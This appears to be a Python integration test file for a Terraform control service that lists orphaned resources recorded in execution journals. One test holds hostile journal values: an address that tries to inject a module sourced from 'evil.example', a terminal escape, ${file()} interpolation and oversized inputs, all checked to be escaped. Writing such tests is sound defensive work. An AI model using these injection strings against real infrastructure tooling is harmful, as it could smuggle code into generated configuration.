"""Journals against states: what was made and is in no state is listed."""

import json
from collections.abc import Mapping, Sequence
from typing import Any

import pytest

from exclave.control.installs.installs import release_lane
from exclave.control.terraform.orphans import list_orphans
from exclave.domain.identity import InstallId
from exclave.domain.jobs import ExecutionId
from exclave.wire.runner import Offer
from exclave.wire.states import StateResource
from tests.integration.control.conftest import World
from tests.integration.control.tf_kit import WORKSPACE, begin, lock, lose, state, unlock, write
from tests.support.files import put_file


def event(kind: str, address: str, identity: str = "", action: str = "create") -> dict[str, str]:
    return {
        "type": kind,
        "addr": address,
        "action": action,
        "resource_type": address.split(".")[-2],
        "id_key": "id",
        "id_value": identity,
        "at": "2026-01-01T00:00:00Z",
    }


async def hand_in_journal(
    world: World, offer: Offer, lines: Sequence[Mapping[str, Any]], torn: bytes = b""
) -> None:
    data = b"\n".join(json.dumps(line).encode() for line in lines) + torn
    execution = ExecutionId(offer.execution_id)
    await put_file(world.deps, world.peer.who, execution, "journal.jsonl", offer.epoch, data)


async def test_what_was_made_and_is_not_in_the_state_is_listed_to_import(world: World) -> None:
    offer = await begin(world)
    await lock(world, offer)
    await write(world, offer, state(1, ids="id-a"))
    lines = [
        {"type": "begin", "workspace": WORKSPACE},
        event("apply_start", "terraform_data.a"),
        event("apply_complete", "terraform_data.a", "id-a"),
        event("apply_start", 'module.m.terraform_data.b["x"]'),
        event("apply_complete", 'module.m.terraform_data.b["x"]', 'id "b" ${x}'),
        event("apply_start", "terraform_data.c"),
        event("apply_start", "terraform_data.d"),
        event("apply_errored", "terraform_data.d"),
        event("apply_start", "terraform_data.e", action="delete"),
    ]
    await hand_in_journal(world, offer, lines, torn=b'\n{"type": "apply_sta')
    install = InstallId(world.queue)
    assert (await list_orphans(world.deps, world.user, install)).orphans == []
    await lose(world, offer)

    found = (await list_orphans(world.deps, world.user, install)).orphans

    assert [(one.address, one.certainty, one.id) for one in found] == [
        ('module.m.terraform_data.b["x"]', "created", 'id "b" ${x}'),
        ("terraform_data.c", "unknown", ""),
    ]
    assert found[0].import_block == (
        'import {\n  to = module.m.terraform_data.b["x"]\n  id = "id \\"b\\" $${x}"\n}\n'
    )
    assert found[1].import_block == ""
    await release_lane(world.deps, world.user, install, WORKSPACE, "imported")
    assert (await list_orphans(world.deps, world.user, install)).orphans == []
    assert len((await list_orphans(world.deps, world.user, install, every=True)).orphans) == 2


@pytest.mark.parametrize("every", [True, False])
@pytest.mark.parametrize("wrote_a_state", [True, False])
async def test_what_is_being_replaced_does_not_hide_its_successor(
    world: World, wrote_a_state: bool, every: bool
) -> None:
    first = await begin(world)
    await lock(world, first)
    await write(world, first, state(1, ids="old"))
    await unlock(world, first)
    await world.peer.hand_in(first.execution_id, first.epoch)
    offer = await begin(world)
    deletes = [
        event("apply_start", "terraform_data.a", "old", "delete"),
        event("apply_complete", "terraform_data.a", action="delete"),
    ]
    if wrote_a_state:
        await lock(world, offer)
        await write(world, offer, state(2, ids="old"))
    lines = [
        {"type": "begin", "workspace": WORKSPACE},
        *(deletes if wrote_a_state else []),
        event("apply_start", "terraform_data.a"),
    ]
    await hand_in_journal(world, offer, lines)
    await lose(world, offer)

    install = InstallId(world.queue)
    found = (await list_orphans(world.deps, world.user, install, every=every)).orphans

    assert [(one.address, one.certainty) for one in found] == [("terraform_data.a", "unknown")]


async def test_another_resource_at_the_same_address_does_not_hide_an_orphan(world: World) -> None:
    offer = await begin(world)
    await lock(world, offer)
    await write(world, offer, state(1, ids="newer"))
    lines = [
        {"type": "begin", "workspace": WORKSPACE},
        event("apply_complete", "terraform_data.a", "older"),
    ]
    await hand_in_journal(world, offer, lines)
    await lose(world, offer)

    found = (await list_orphans(world.deps, world.user, InstallId(world.queue))).orphans

    assert [one.id for one in found] == ["older"]


@pytest.mark.parametrize("heard_all", [False, True])
async def test_what_was_planned_is_told_where_the_runner_did_not_hear_all(
    world: World, heard_all: bool
) -> None:
    offer = await begin(world)
    await lock(world, offer)
    await write(world, offer, state(1, ids="kept"))
    planned = [
        {"type": "planned_change", "addr": f"terraform_data.{name}", "action": action}
        for name, action in [("a", "create"), ("b", "create"), ("c", "update"), ("d", "replace")]
    ]
    lines = [
        {"type": "begin", "workspace": WORKSPACE},
        *planned,
        event("apply_complete", "terraform_data.b", "made"),
        *([{"type": "end"}] if heard_all else []),
    ]
    await hand_in_journal(world, offer, lines)
    await lose(world, offer)

    found = (await list_orphans(world.deps, world.user, InstallId(world.queue))).orphans

    told = [(one.address, one.certainty) for one in found]
    unheard = [] if heard_all else [("terraform_data.d", "planned")]
    assert told == [("terraform_data.b", "created"), *unheard]


EVIL = (
    'a.b\n  id = "x"\n}\nmodule "evil" {\n  source = "git::https://evil.example"\n}\n# \x1b]0;PWNED'
)


async def test_a_hostile_journal_writes_no_code_and_hides_nothing(world: World) -> None:
    offer = await begin(world)
    lines: list[Mapping[str, Any]] = [
        {"type": "begin", "workspace": WORKSPACE},
        event("apply_complete", EVIL, "id-1"),
        event("apply_complete", "aws_vpc.good", 'x"\n}\nmodule "evil" {}'),
        event("apply_complete", 'aws_vpc.key["${file(1)}\\u202e"]', "id-3"),
        event("apply_complete", "aws_vpc.long", "i" * 5000),
        event("apply_complete", f'aws_vpc.a["{"k" * 5000}"]', "id-5"),
        event("apply_complete", "aws_vpc.half", "\ud800"),
        event("apply_complete", "aws_vpc.masked_***", "id-7"),
        event("apply_complete", "aws_vpc.when", "id-8") | {"at": "never", "resource_type": ["x"]},
        {"type": ["x"], "addr": {"a": 1}, "action": []},
    ]
    deep = b"\n" + b"[" * 100_000 + b"\n"
    await hand_in_journal(
        world,
        offer,
        lines,
        torn=deep + json.dumps(event("apply_complete", "aws_vpc.last", "id-9")).encode(),
    )
    await lose(world, offer)

    reply = await list_orphans(world.deps, world.user, InstallId(world.queue))

    found = {one.address: one for one in reply.orphans}
    blocks = [one.import_block for one in reply.orphans]
    assert reply.unread == []
    assert len(found) == 9
    assert json.loads(reply.model_dump_json())
    assert all(one.address.isprintable() for one in reply.orphans)
    assert not any("\nmodule" in block or block.count("\n}") > 1 for block in blocks)
    evil = next(one for one in reply.orphans if "evil.example" in one.address)
    assert (evil.id, evil.import_block) == ("id-1", "")
    assert found["aws_vpc.good"].import_block == (
        'import {\n  to = aws_vpc.good\n  id = "x\\"\\n}\\nmodule \\"evil\\" {}"\n}\n'
    )
    key = found['aws_vpc.key["$${file(1)}\\u202e"]']
    assert key.import_block.startswith('import {\n  to = aws_vpc.key["$${file(1)}\\u202e"]\n')
    assert found["aws_vpc.long"].id == found["aws_vpc.half"].id == ""
    assert found["aws_vpc.masked_***"].import_block == ""
    assert found["aws_vpc.when"].at is None
    assert found["aws_vpc.last"].id == "id-9"


async def test_an_unreadable_address_is_known_by_the_state_that_has_it(world: World) -> None:
    offer = await begin(world)
    await lock(world, offer)
    told = state(1)
    resources = [StateResource(address=EVIL, type="a", id="id-1")]
    header = told.header.model_copy(update={"resources": resources})
    await write(world, offer, told.model_copy(update={"header": header}))
    lines = [{"type": "begin", "workspace": WORKSPACE}, event("apply_complete", EVIL, "id-1")]
    await hand_in_journal(world, offer, lines)
    await lose(world, offer)

    assert (await list_orphans(world.deps, world.user, InstallId(world.queue))).orphans == []


async def test_a_journal_without_end_is_read_in_part_and_named(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("exclave.control.terraform.journals._LINES", 2)
    offer = await begin(world)
    lines = [
        {"type": "begin", "workspace": WORKSPACE},
        event("apply_complete", "aws_vpc.a", "id-1"),
        event("apply_complete", "aws_vpc.b", "id-2"),
    ]
    await hand_in_journal(world, offer, lines)
    await lose(world, offer)

    reply = await list_orphans(world.deps, world.user, InstallId(world.queue))

    assert [one.address for one in reply.orphans] == ["aws_vpc.a"]
    assert reply.unread == [offer.execution_id]
